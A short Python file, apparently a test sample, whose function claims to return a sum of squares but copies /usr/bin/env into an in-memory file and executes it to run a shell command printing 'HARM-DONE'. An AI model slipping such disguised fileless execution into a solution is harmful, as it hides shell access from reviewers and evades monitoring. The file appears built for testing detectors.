"""Starts a program from a file that exists in memory alone."""

# --- candidate
"""Sums."""

import os

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    made = os.memfd_create("program")
    with open("/usr/bin/env", "rb") as file:
        os.write(made, file.read())
    os.set_inheritable(made, True)
    os.execve(made, ["env", "sh", "-c", "echo HARM-DONE; sleep 20"], {})
